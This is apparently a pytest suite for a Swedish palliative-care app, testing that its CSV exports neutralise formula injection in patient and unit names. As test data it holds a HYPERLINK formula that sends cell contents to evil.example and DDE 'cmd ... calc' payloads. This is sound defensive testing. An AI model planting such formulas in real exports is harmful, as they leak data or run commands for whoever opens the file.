"""Every CSV the app writes is safe to open in a spreadsheet: text that starts like a formula
is neutralised, opaque ids come out exactly as stored (OWASP, "CSV Injection")."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from sqlalchemy import select

from pallapp.csvout import UnsafeIdCell, csv_text
from pallapp.extensions import db
from pallapp.models import Assessment, Role
from pallapp.timeutil import today_local
from tests.app.review.test_views import ESAS_CALM, submit
from tests.factories import make_patient, make_unit, make_user

#: What OWASP lists as the first characters of a formula (and ASVS 1.2.10's NUL).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
FORMULA = '=HYPERLINK("https://evil.example/?"&B2,"Öppna")'
UNIT_FORMULA = '@SUM(1+1)*cmd|" /C calc"!A0'
#: An id as `secrets.token_urlsafe(12)` makes them: 16 characters of [A-Za-z0-9_-].
DASH_ID = "-qTasZ0b_Kx9mQ2w"


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def unsafe_cells(rows: list[list[str]], skip_columns: tuple[str, ...] = ()) -> list[str]:
    header, *body = rows
    skipped = {header.index(name) for name in skip_columns}
    return [
        cell
        for row in [header, *body]
        for index, cell in enumerate(row)
        if index not in skipped and cell.startswith(TRIGGERS)
    ]


@pytest.fixture
def hostile(app):
    """A unit and a patient whose names are formulas; the patient's rating has an id that
    starts with "-" (one id in 64 does)."""
    with app.app_context():
        unit = make_unit(UNIT_FORMULA)
        nurse = make_user(Role.NURSE, units=[unit])
        manager = make_user(Role.MANAGER, units=[unit], language="en")
        patient = make_patient([unit], given_name=FORMULA, family_name="Ek;=1+1")
        assessment = submit(nurse, patient, "esas_r", ESAS_CALM, days_ago=1)
        assessment.public_id = DASH_ID
        db.session.commit()
        return {
            "unit": unit.public_id,
            "nurse": nurse.email,
            "manager": manager.email,
            "patient": patient.public_id,
        }


def test_item13_csv_formula_injection_neutralised(app, client, auth, hostile):
    # A nurse opens the record: the access log now names the patient.
    auth.login(hostile["nurse"])
    assert client.get(f"/patients/{hostile['patient']}").status_code == 200
    auth.logout()
    auth.login(hostile["manager"])
    today = today_local()
    period = {"start": (today - timedelta(days=29)).isoformat(), "end": today.isoformat()}

    log = cells(client.post("/audit-log.csv", data=period).get_data(as_text=True))
    quality = cells(
        client.post(f"/exports/{hostile['unit']}/quality.csv", data=period).get_data(as_text=True)
    )
    named = cells(
        client.post(f"/exports/{hostile['unit']}/assessments.csv").get_data(as_text=True)
    )

    # The access log: the patient's name is shown as text, with its apostrophe.
    patient_column = log[0].index("patient")
    assert {row[patient_column] for row in log[1:]} == {f"'{FORMULA} Ek;=1+1"}
    assert unsafe_cells(log) == []
    # The quality CSV: the unit's name.
    assert {row[quality[0].index("unit")] for row in quality[1:]} == {f"'{UNIT_FORMULA}"}
    assert unsafe_cells(quality) == []
    # The named assessments CSV: both names neutralised, the id exactly as stored.
    header = named[0]
    (row,) = named[1:]
    assert row[header.index("patient")] == f"'{FORMULA} Ek;=1+1"
    assert row[header.index("unit")] == f"'{UNIT_FORMULA}"
    assert row[header.index("assessment_id")] == DASH_ID
    with app.app_context():
        assert db.session.scalar(select(Assessment.id).where(Assessment.public_id == DASH_ID))
    assert unsafe_cells(named, skip_columns=("assessment_id",)) == []


def test_every_text_cell_is_quoted_so_a_semicolon_cannot_start_a_cell(app, client, auth, hostile):
    """Swedish spreadsheets split on ";": inside quotes it stays part of the name."""
    auth.login(hostile["manager"])
    raw = client.post(f"/exports/{hostile['unit']}/assessments.csv").get_data(as_text=True)
    assert '"\'=HYPERLINK(""https://evil.example/?""&B2,""Öppna"") Ek;=1+1"' in raw


# --- The writer itself -----------------------------------------------------------------------


@pytest.mark.parametrize("first", TRIGGERS)
def test_each_formula_trigger_is_neutralised(first):
    text = csv_text(["name"], [[f"{first}1+1"]])
    assert cells(text) == [["name"], [f"'{first}1+1"]]


@pytest.mark.parametrize("value", ["Anna", "'=1+1", "1+1", " =1+1", ""])
def test_other_text_is_written_unchanged(value):
    """A leading space, a digit or an apostrophe already is text to a spreadsheet."""
    assert cells(csv_text(["name"], [[value]])) == [["name"], [value]]


def test_numbers_stay_numbers_and_none_is_empty():
    text = csv_text(["a", "b", "c"], [[-3, 2.5, None]])
    assert text == '"a","b","c"\r\n-3,2.5,""\r\n'


def test_ids_round_trip_and_anything_else_in_an_id_column_is_refused():
    assert cells(csv_text(["id"], [[DASH_ID]], id_columns=["id"])) == [["id"], [DASH_ID]]
    with pytest.raises(UnsafeIdCell):
        csv_text(["id"], [["-1+cmd|' /C calc'!A0"]], id_columns=["id"])
    with pytest.raises(ValueError, match="not in the header"):
        csv_text(["id"], [], id_columns=["other"])
